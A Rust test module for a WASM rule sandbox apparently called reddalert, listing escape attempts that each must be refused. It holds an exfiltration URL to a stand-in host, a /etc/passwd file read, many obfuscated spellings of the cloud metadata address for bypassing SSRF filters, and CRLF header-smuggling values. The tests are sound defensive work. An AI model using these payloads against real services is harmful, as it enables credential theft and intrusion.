//! Rules that want out: to files, the environment, the network, and to interfaces that no rule gets.

use super::attack::{Attack, Ends, Group, attack};
use super::nothing;

pub(super) fn groups() -> Vec<Group> {
    vec![
        Group { title: "Files and the environment", attacks: surroundings() },
        Group { title: "The network", attacks: network() },
        Group { title: "The metadata service, in every spelling", attacks: metadata() },
        Group { title: "Imports", attacks: imports() },
    ]
}

fn surroundings() -> Vec<Attack> {
    let empty = |name, source, tries| attack(name, source, tries, "what WASI shows a rule is empty", Ends::Harmless(nothing));
    vec![
        empty("environment", "environment.wat", "read the environment"),
        empty("arguments", "arguments.wat", "read the program's arguments"),
        empty("directories", "directories.wat", "open a file: it needs a directory to begin with, and there is none"),
    ]
}

/// Grants as wide as grants can be, so that what stops a rule is not that nothing is granted.
const PUBLIC: &str =
    r#""grants.HOSTILE": {"schemes": ["http", "https", "tcp"], "hosts": ["0.0.0.0/0", "::/0", "*.example"], "ports": "1-65535"}"#;

fn sends(
    name: &'static str,
    tries: &'static str,
    stopped_by: &'static str,
    url: &str,
    header: (&str, &str),
    texts: &'static [&'static str],
) -> Attack {
    let attack = attack(name, "sends.wat", tries, stopped_by, Ends::Fails(texts)).under(PUBLIC);
    attack.with("URL", url).with("NAME", header.0).with("VALUE", header.1).with("COUNT", "1")
}

const ACCEPT: (&str, &str) = ("accept", "*/*");

fn network() -> Vec<Attack> {
    let (granted, header) =
        ("only what the operator granted is reached, or even resolved", "headers are checked, and the host's own cannot be set");
    let special = "addresses that are not public need a grant that names them";
    vec![
        sends(
            "not_granted",
            "send what it knows to a server of its own",
            granted,
            "https://evil.test/steal?all",
            ACCEPT,
            &["is not granted", "https://evil.test"],
        ),
        sends("file_address", "read a file by its address", granted, "file:///etc/passwd", ACCEPT, &["file_address: failed"]),
        sends("other_scheme", "use another protocol", granted, "gopher://192.0.2.1:25/", ACCEPT, &["other_scheme: failed"]),
        sends("loopback", "reach a service of this machine", special, "http://127.0.0.1:9/", ACCEPT, &["a loopback address"]),
        sends("loopback_short", "reach it by a short spelling", special, "http://127.1:9/", ACCEPT, &["a loopback address"]),
        sends(
            "loopback_zero",
            "reach it by the address of all",
            special,
            "http://0.0.0.0:9/",
            ACCEPT,
            &["loopback_zero: failed", "has to name itself"],
        ),
        sends("private", "reach a machine of the company", special, "http://10.0.0.1/", ACCEPT, &["has to name itself"]),
        sends(
            "header_lines",
            "smuggle a second header into the first",
            header,
            "http://192.0.2.1/",
            ("a", "b\r\nAuthorization: c"),
            &["holds a control character"],
        ),
        sends("header_host", "have another site answer", header, "http://192.0.2.1/", ("Host", "evil"), &["cannot be set"]),
        sends(
            "header_length",
            "smuggle a second request into the first",
            header,
            "http://192.0.2.1/",
            ("Transfer-Encoding", "chunked"),
            &["cannot be set"],
        ),
        sends(
            "address_lines",
            "smuggle a header into the address",
            header,
            "http://a.example/\r\nHost: evil",
            ACCEPT,
            &["a control character"],
        ),
        attack(
            "redirect",
            "",
            "be led to the metadata service by a redirect",
            "each redirect is decided on anew",
            Ends::ShownBy("host/src/sandbox/tests/network.rs", "a_redirect_to_the_metadata_service_is_out_of_reach_too"),
        ),
        attack(
            "rebinding",
            "",
            "be led inside by a name whose address changes",
            "a name is resolved once, and what was checked is connected to",
            Ends::ShownBy("host/src/network/tests/web.rs", "a_name_is_resolved_once_and_connected_to_as_it_was_checked"),
        ),
        attack(
            "rebinding_mixed",
            "",
            "hide one inner address among public ones",
            "every address of a name is checked",
            Ends::ShownBy("host/src/network/tests/web.rs", "one_bad_address_among_good_ones_refuses_the_request"),
        ),
        attack(
            "unresolved",
            "",
            "tell a name server something by asking for a name",
            granted,
            Ends::ShownBy("host/src/network/tests/web.rs", "what_is_not_granted_is_not_even_resolved"),
        ),
    ]
}

fn metadata() -> Vec<Attack> {
    let one_spelling = "addresses are compared in one spelling, and this one needs a grant that names it";
    let found = &["the metadata service of", "has to name itself"];
    let spellings = [
        ("metadata", "as it is", "169.254.169.254"),
        ("metadata_dot", "with a dot at its end", "169.254.169.254."),
        ("metadata_decimal", "as one number", "2852039166"),
        ("metadata_hex", "as one hexadecimal number", "0xA9FEA9FE"),
        ("metadata_hex_parts", "in hexadecimal parts", "0xa9.0xfe.0xa9.0xfe"),
        ("metadata_octal", "in octal parts", "0251.0376.0251.0376"),
        ("metadata_short", "in two parts", "169.16689662"),
        ("metadata_percent", "with encoded digits", "%31%36%39.254.169.254"),
        ("metadata_wide", "in wide digits, as IDNA reads them", "１６９.254.169.254"),
        ("metadata_dots", "with ideographic dots, as IDNA reads them", "169。254。169。254"),
        ("metadata_mapped", "as IPv6 (mapped)", "[::ffff:169.254.169.254]"),
        ("metadata_compatible", "as IPv6 (compatible)", "[::a9fe:a9fe]"),
        ("metadata_nat64", "as IPv6 (NAT64)", "[64:ff9b::169.254.169.254]"),
        ("metadata_6to4", "as IPv6 (6to4)", "[2002:a9fe:a9fe::1]"),
        ("metadata_six", "by its IPv6 address", "[fd00:ec2::254]"),
    ];
    let mut attacks: Vec<Attack> = spellings
        .into_iter()
        .map(|(name, tries, host)| sends(name, tries, one_spelling, &format!("http://{host}/latest/meta-data/"), ACCEPT, found))
        .collect();
    attacks.push(sends(
        "metadata_user",
        "behind a user name that looks like a host",
        "a user name in an address is refused",
        "http://www.example@169.254.169.254/",
        ACCEPT,
        &["metadata_user: failed"],
    ));
    attacks.push(
        attack("metadata_probe", "probes.wat", "by a probe of its port", one_spelling, Ends::Fails(found))
            .with("HOST", "169.254.169.254")
            .under(PUBLIC),
    );
    attacks.push(
        attack("metadata_probe_hex", "probes.wat", "by a probe, as a number", one_spelling, Ends::Fails(found))
            .with("HOST", "0xA9FEA9FE")
            .under(PUBLIC),
    );
    attacks
}

fn imports() -> Vec<Attack> {
    let closed =
        "what is not in `wit/` or in the small part of WASI that languages need to start is refused, by name, before anything is compiled";
    let import = |name, source, tries, texts| attack(name, source, tries, closed, Ends::IsRefused(texts));
    vec![
        import("sockets", "sockets.wat", "import sockets", &["it imports `wasi:sockets/tcp@0.2.6`, which no rule gets"]),
        import(
            "web_client",
            "web_client.wat",
            "import the web client of WASI",
            &["it imports `wasi:http/outgoing-handler@0.2.6`, which no rule gets"],
        ),
        import("key_value", "key_value.wat", "import another interface of WASI", &["wasi:keyvalue/store"]),
        import(
            "vault",
            "vault.wat",
            "import what nobody offers",
            &["it imports `acme:secrets/vault@1.0.0`, which reddalert does not offer"],
        ),
        import(
            "contract_old",
            "contract_old.wat",
            "speak an old version of the contract",
            &["`reddalert:rule/edda@0.1.0`", "this reddalert speaks 1.0.0"],
        ),
        import(
            "contract_new",
            "contract_new.wat",
            "speak a version that is not made yet",
            &["`reddalert:rule/edda@2.0.0`", "this reddalert speaks 1.0.0"],
        ),
        import(
            "contract_more",
            "contract_more.wat",
            "import an interface that the contract does not have",
            &["it imports `reddalert:rule/files@1.0.0`"],
        ),
        import(
            "contract_function",
            "contract_function.wat",
            "import a function that the contract does not have",
            &["what it imports does not fit", "forget"],
        ),
        import(
            "contract_type",
            "contract_type.wat",
            "export something else under the right name",
            &["what it exports is not what a rule exports"],
        ),
        import("preview_one", "preview_one.wat", "be a module that opens files", &["it is a core module; a rule is a component"]),
        import("command", "command.wat", "be a program", &["it is a component of another world", "wasi:cli/run@0.2.6"]),
    ]
}
